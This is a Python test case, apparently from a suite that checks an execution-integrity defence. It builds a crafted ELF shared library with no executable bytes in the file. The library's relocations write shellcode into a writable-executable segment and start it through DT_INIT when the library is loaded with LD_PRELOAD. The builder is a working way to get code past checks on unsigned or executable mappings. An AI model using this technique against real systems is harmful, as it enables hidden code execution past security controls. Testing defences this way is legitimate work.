# SPDX-License-Identifier: GPL-2.0-or-later
"""Code that is in no file's executable part: the loader's relocations write it into memory."""

import struct

from arena import SHELLCODE, attack

PAGE = 4096
LOAD, DYNAMIC, ABSOLUTE, R_X86_64_64 = 1, 2, 0xfff1, 1
HASH, STRTAB, SYMTAB, RELA, RELASZ, RELAENT, STRSZ, SYMENT, INIT = 4, 5, 6, 7, 8, 9, 10, 11, 12


def segment(kind, flags, address, length, memory):
    """A program header of what lies in the file where it lies in memory; what is empty lies at its beginning."""
    return struct.pack("<IIQQQQQQ", kind, flags, address if length else 0, address, address, length, memory, PAGE)


def library(code):
    """A shared object with no code in it: a zero-filled segment is writable and executable, and relocations against
    the absolute number 0 put one word of the code after the other there, as their addends."""
    code += bytes(-len(code) % 8)
    words = struct.unpack(f"<{len(code) // 8}q", code)
    symbols = 64 + 3 * 56
    strings, table = symbols + 48, symbols + 56
    relocations = table + 24
    dynamic = relocations + 24 * len(words)
    tags = [(HASH, table), (STRTAB, strings), (STRSZ, 1), (SYMTAB, symbols), (SYMENT, 24), (RELA, relocations),
            (RELASZ, 24 * len(words)), (RELAENT, 24), (INIT, PAGE), (0, 0)]
    end = dynamic + 16 * len(tags)
    parts = [b"\x7fELF\2\1\1".ljust(16, b"\0"),
             struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 3, 0, 0, 0),
             segment(LOAD, 6, 0, end, end), segment(LOAD, 7, PAGE, 0, PAGE),
             segment(DYNAMIC, 6, dynamic, end - dynamic, end - dynamic),
             bytes(24), struct.pack("<IBBHQQ", 0, 0, 0, ABSOLUTE, 0, 0), bytes(8), struct.pack("<6I", 1, 2, 0, 0, 0, 0)]
    parts += [struct.pack("<QQq", PAGE + 8 * n, 1 << 32 | R_X86_64_64, word) for n, word in enumerate(words)]
    return b"".join(parts + [struct.pack("<QQ", *tag) for tag in tags])


@attack("root", "user")
def library_of_relocations(scene):
    """An unsigned library without a byte that is mapped executable."""
    return scene.runs("/bin/true", env={"LD_PRELOAD": str(scene.file("lib.so", library(SHELLCODE)))})
